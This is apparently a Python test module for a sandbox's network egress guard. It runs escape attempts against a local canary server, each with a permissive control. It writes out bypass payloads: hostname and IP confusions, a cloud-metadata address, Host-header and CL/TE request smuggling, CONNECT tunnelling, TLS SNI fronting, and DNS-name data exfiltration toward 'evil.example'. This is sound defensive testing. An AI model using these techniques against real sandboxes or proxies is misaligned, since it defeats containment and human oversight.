"""Attempts to get out through the http door and the names of a box: each from a real box, whose declaration is the guard.

What is outside is a server of the canary's that answers whatever it is sent; the control is the same program in a box that allows it.
"""

from __future__ import annotations

import contextlib
import importlib.util
import os
import socket
import subprocess
import sys
import threading
from pathlib import Path

OWN = socket.gethostname().lower()
"""A name that leads to this machine: /etc/hosts holds it."""
SENTENCE = b"this came from outside"
NAMES = """
import os, socket, struct, sys, time

def ask(name, kind=1, tcp=False, server="127.0.0.1"):
    "The first address in an answer of the box's resolver, or how many answers of another kind."
    labels = b"".join(bytes([len(label)]) + label for label in name.split(b"."))
    question = struct.pack(">HHHHHH", 7, 256, 1, 0, 0, 0) + labels + b"\\0" + struct.pack(">HH", kind, 1)
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM if tcp else socket.SOCK_DGRAM) as sock:
        sock.settimeout(2)
        sock.connect((server, 53))
        sock.send(struct.pack(">H", len(question)) + question if tcp else question)
        answer = sock.recv(4096)[2 * tcp:]
    count = struct.unpack(">H", answer[6:8])[0]
    return socket.inet_ntoa(answer[-4:]) if count and kind == 1 else count

def fetch(address, port, host, head=b""):
    with socket.create_connection((address, port), 3) as sock:
        sock.settimeout(3)
        sock.sendall(head or b"GET / HTTP/1.1\\r\\nHost: " + host + b"\\r\\nConnection: close\\r\\n\\r\\n")
        heard = b""
        while part := sock.recv(4096):
            heard += part
        return heard

def attempt(what, work):
    try:
        heard = work()
    except OSError as error:
        return print(what, error)
    print("GOT" if heard and (heard is True or b"this came from outside" in heard) else "refused", what, str(heard)[:80])
"""


@contextlib.contextmanager
def outside():
    """A server that answers SENTENCE to whatever it is sent; yields where it is and what it heard."""
    listening = socket.create_server(("0.0.0.0", 0))  # a machine's own name may lead to any of its addresses
    heard: list[bytes] = []

    def answer(sock):
        with sock, contextlib.suppress(OSError):
            sock.settimeout(10)
            heard.append(sock.recv(65536))
            sock.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: %d\r\nConnection: close\r\n\r\n" % len(SENTENCE) + SENTENCE)

    def accept():
        with contextlib.suppress(OSError):
            while True:
                threading.Thread(target=answer, args=(listening.accept()[0],), daemon=True).start()

    threading.Thread(target=accept, daemon=True).start()
    try:
        yield listening.getsockname()[1], heard
    finally:
        with contextlib.suppress(OSError):
            listening.shutdown(socket.SHUT_RDWR)
        listening.close()


def boxed(program, door):
    """A scenario's function: the program in a box with this door; `PORT` in both is the server's."""

    def make(canary):
        with outside() as (port, heard):
            folder = canary.folder / "egress"
            folder.mkdir(mode=0o700)
            file = folder / "box.toml"
            file.write_text(f"[doors.http]\n{door}\n".replace("PORT", str(port)))
            environment = {**os.environ, "HOME": str(folder), "XDG_STATE_HOME": str(folder / "state")}
            text = (NAMES + program).replace("PORT", str(port))
            command = [sys.executable, "-m", "gearcase.cli", "exec", "-q", "-f", file, "--", "/usr/bin/python3", "-c", text]
            try:
                done = subprocess.run(command, env=environment, cwd=folder, capture_output=True, text=True, timeout=60)
            finally:
                subprocess.run(["rm", "-rf", folder], check=True)
            got = "GOT" in done.stdout or (heard and "TELLS" in program)
            return f"{'GOT ' if got else ''}{done.stdout.strip()[-400:]} {done.stderr.strip()[-300:]}"

    return make


LISTED = 'allow = ["allowed.example"]\nhosts = { "allowed.example" = "127.0.0.1:PORT", "evil.example" = "127.0.0.1:PORT" }'
EVERYTHING = 'allow = ["*"]\nhosts = { "allowed.example" = "127.0.0.1:PORT", "evil.example" = "127.0.0.1:PORT" }'
UNREAD = LISTED.replace('"allowed.example"]', '"tcp://allowed.example:80", "tcp://allowed.example:443"]')

CONFUSED = """
for name in (b"evil.example", b"evil.example\\0.allowed.example", b"allowed.example\\0.evil.example", b"allowed.example@evil.example",
             b"allowed.example:80@evil.example", b"xn--allowed-.example", b"allowed.example.evil.example", b"allowedXexample",
             b"2130706433", b"0x7f.1", b"0177.0.0.1", b"127.1", b"::ffff:127.0.0.1", b"[::1]", b"allowed.example%00", b"localhost"):
    attempt(name, lambda: fetch(ask(name), 80, name))
address = ask(b"allowed.example")
for host in (b"evil.example", b"allowed.example@evil.example", b"evil.example\\r\\nX: allowed.example", b"allowed.example.evil.example"):
    attempt(b"Host " + host, lambda: fetch(address, 80, host))
"""
FRONTED = """
import ssl
address = ask(b"allowed.example")
attempt("another Host", lambda: fetch(address, 80, b"evil.example"))
attempt("two Hosts", lambda: fetch(address, 80, b"allowed.example\\r\\nHost: evil.example"))
attempt("an absolute address", lambda: fetch(address, 80, b"", b"GET http://evil.example/ HTTP/1.1\\r\\nHost: allowed.example\\r\\n\\r\\n"))
attempt("CONNECT", lambda: fetch(address, 80, b"", b"CONNECT evil.example:443 HTTP/1.1\\r\\nHost: allowed.example\\r\\n\\r\\n"))
attempt("CL and TE", lambda: fetch(address, 80, b"", b"POST / HTTP/1.1\\r\\nHost: allowed.example\\r\\nContent-Length: 4\\r\\n"
    b"Transfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\nGET / HTTP/1.1\\r\\nHost: evil.example\\r\\n\\r\\n"))
attempt("plain TCP on 443", lambda: fetch(address, 443, b"", b"SSH-2.0-x\\r\\n"))
hello, reply = ssl.MemoryBIO(), ssl.MemoryBIO()
context = ssl.create_default_context()
for name in ("evil.example", None):
    context.check_hostname = name is not None
    client = context.wrap_bio(reply, hello, server_hostname=name)
    try:
        client.do_handshake()
    except ssl.SSLError:
        pass
    words = hello.read()
    attempt(f"TLS for {name}", lambda: fetch(address, 443, b"", words))
"""
QUESTIONS = """
data = b"s" * 63
for kind in (1, 16, 255, 28, 5, 12, 33, 65):
    for tcp in (False, True):
        attempt(("question", kind, tcp), lambda: bool(ask(b".".join((data, data, data, b"evil.example")), kind, tcp)))
"""
PRIVATE = f"""
attempt("a listed name that leads here", lambda: fetch(ask({OWN.encode()!r}), PORT, b"{OWN}:PORT"))
"""
EMPTY = """
for number in range(1, 6):
    for port in (80, 443, PORT):
        attempt((number, port), lambda: fetch(f"198.18.1.{number}", port, b"allowed.example"))
attempt("a name", lambda: fetch(ask(b"allowed.example"), 80, b"allowed.example"))
"""


PROXY = """
def through(place, data=b"", host=b""):
    with socket.create_connection(("proxy.box", 13128), 3) as sock:
        sock.settimeout(3)
        sock.sendall(b"CONNECT " + place + b" HTTP/1.1\\r\\nHost: " + (host or place) + b"\\r\\n\\r\\n")
        heard = sock.recv(4096)
        if b" 200 " in heard:
            sock.sendall(data)
        while part := sock.recv(4096):
            heard += part
        return heard
"""
TUNNELLED = (
    PROXY
    + """
plain = b"GET / HTTP/1.1\\r\\nHost: HOST\\r\\nConnection: close\\r\\n\\r\\n"
for host in (b"evil.example", b"evil.example.", b"EVIL.example", b"allowed.example\\0.evil.example", b"evil.example\\0.allowed.example",
             b"allowed.example@evil.example", b"evil.example:80@allowed.example", b"allowed.example.evil.example", b"allowedXexample",
             b"2130706433", b"0x7f.1", b"0177.0.0.1", b"127.1", b"127.0.0.1", b"[::1]", b"[::ffff:127.0.0.1]", b"169.254.169.254",
             b"localhost", b"model.box", b"gear.box", b"proxy.box", b"allowed.example%00"):
    for port in (b"80", b"PORT", b"22"):
        attempt(host + b":" + port, lambda: through(host + b":" + port, plain.replace(b"HOST", host)))
attempt("another Host of CONNECT", lambda: through(b"allowed.example:80", plain.replace(b"HOST", b"evil.example"), b"evil.example:80"))
for line in (b"GET http://evil.example/", b"GET http://allowed.example@evil.example/", b"GET http://127.0.0.1:PORT/", b"GET http://model.box/"):
    attempt(line, lambda: fetch("proxy.box", 13128, b"", line + b" HTTP/1.1\\r\\nHost: evil.example\\r\\n\\r\\n"))
"""
)
TUNNEL_FRONTED = (
    PROXY
    + """
import ssl
plain = b"GET / HTTP/1.1\\r\\nHost: HOST\\r\\nConnection: close\\r\\n\\r\\n"
attempt("another Host", lambda: through(b"allowed.example:80", plain.replace(b"HOST", b"evil.example")))
attempt("two Hosts", lambda: through(b"allowed.example:80", plain.replace(b"HOST", b"allowed.example\\r\\nHost: evil.example")))
attempt("CONNECT in a tunnel", lambda: through(b"allowed.example:80", b"CONNECT evil.example:443 HTTP/1.1\\r\\n\\r\\n"))
attempt("plain TCP on 443", lambda: through(b"allowed.example:443", b"SSH-2.0-x\\r\\n"))
hello, reply = ssl.MemoryBIO(), ssl.MemoryBIO()
context = ssl.create_default_context()
client = context.wrap_bio(reply, hello, server_hostname="evil.example")
try:
    client.do_handshake()
except ssl.SSLError:
    pass
words = hello.read()
attempt("TLS for evil.example", lambda: through(b"allowed.example:443", words))
"""
)


def _scenario():
    name = "hostile_scenarios"
    if name not in sys.modules:
        spec = importlib.util.spec_from_file_location(name, Path(__file__).with_name("scenarios.py"))
        assert spec is not None and spec.loader is not None
        sys.modules[name] = importlib.util.module_from_spec(spec)
        spec.loader.exec_module(sys.modules[name])
    return sys.modules[name].Scenario


def _of(number, name, control, program, guard, open_):
    return _scenario()(number, name, control, boxed(program, guard), boxed(program, open_))


BY_PROXY = "\nproxy = true"

EGRESS = (
    _of(
        31,
        "reach a host through the proxy by any spelling",
        "every name allowed",
        TUNNELLED,
        LISTED + BY_PROXY,
        EVERYTHING + BY_PROXY,
    ),
    _of(
        33,
        "name another host within a tunnel",
        "the port is not read (tcp://)",
        TUNNEL_FRONTED,
        LISTED + BY_PROXY,
        UNREAD + BY_PROXY,
    ),
    _of(30, "carry data out in names asked of the box's resolver", "every name allowed", QUESTIONS, LISTED, EVERYTHING),
    _of(31, "reach a host by a name that looks like an allowed one", "every name allowed", CONFUSED, LISTED, EVERYTHING),
    _of(
        32,
        "reach the host through a listed name that leads to it",
        "allow_private",
        PRIVATE,
        f'allow = ["{OWN}:PORT"]',
        f'allow = ["{OWN}:PORT"]\nallow_private = ["{OWN}"]',
    ),
    _of(33, "name another host behind an allowed one", "the port is not read (tcp://)", FRONTED, LISTED, UNREAD),
    _of(34, "reach anything with an empty list", "the name allowed", EMPTY, "allow = []", LISTED),
)
